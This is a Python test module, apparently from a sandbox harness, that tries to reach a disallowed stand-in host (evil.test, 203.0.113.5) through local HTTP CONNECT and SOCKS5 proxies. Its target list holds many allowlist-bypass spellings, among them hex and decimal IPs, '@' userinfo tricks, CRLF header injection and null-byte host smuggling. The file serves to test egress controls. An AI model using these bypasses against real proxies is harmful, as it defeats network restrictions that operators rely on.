"""Asks the proxies inside for hosts that are not allowed, in every spelling; and a server of an
allowed one for a tunnel.

layer: gateway
control: at home, without the sandbox, it connects itself
"""
from harness import world

NEEDS = ["root"]


def scene(s):
    world.scene(s, ["web.test:443", "web.test:80", "db.test:5432"])


def escaped(s, _):
    return any("evil" in line or "203.0.113.5" in line for line in s.world.log())


def attack(a):
    attempt(lambda: socket.create_connection(("evil.test", 443), timeout=3).sendall(b"x"))
    for target in ("evil.test:443", "EVIL.test.:443", "203.0.113.5:443", "0xcb007105:443",
                   "3405803781:443", "[::ffff:203.0.113.5]:443",
                   "web.test@evil.test:443", "web.test:443@evil.test:443",
                   "evil.test:443 HTTP/1.1\r\nX: web.test:443", "evil.test\0.web.test:443",
                   "web.test:443\r\nHost: evil.test", "evil.test:80", "127.0.0.1:3128"):
        def call():
            s = socket.create_connection(("127.0.0.1", 3128), timeout=3)
            s.sendall(("CONNECT %s HTTP/1.1\r\n\r\n" % target).encode("latin-1"))
            print(s.recv(200))
            s.sendall(b"GET / HTTP/1.1\r\nHost: evil.test\r\n\r\n")
            print(s.recv(200))
        attempt(call)
    for host in (b"evil.test", b"EVIL.TEST.", b"evil.test\0web.test", b"web.test\0.evil.test",
                 b"203.0.113.5"):
        for command in (1, 2, 3):
            def call():
                s = socket.create_connection(("127.0.0.1", 1080), timeout=3)
                s.sendall(b"\5\1\0")
                s.recv(2)
                s.sendall(bytes([5, command, 0, 3, len(host)]) + host + struct.pack(">H", 5432))
                print(s.recv(50))
                s.sendall(b"x")
                print(s.recv(50))
            attempt(call)
    def address():
        s = socket.create_connection(("127.0.0.1", 1080), timeout=3)
        s.sendall(b"\5\1\0" + bytes([5, 1, 0, 1, 203, 0, 113, 5]) + struct.pack(">H", 5432))
        print(s.recv(50))
    attempt(address)
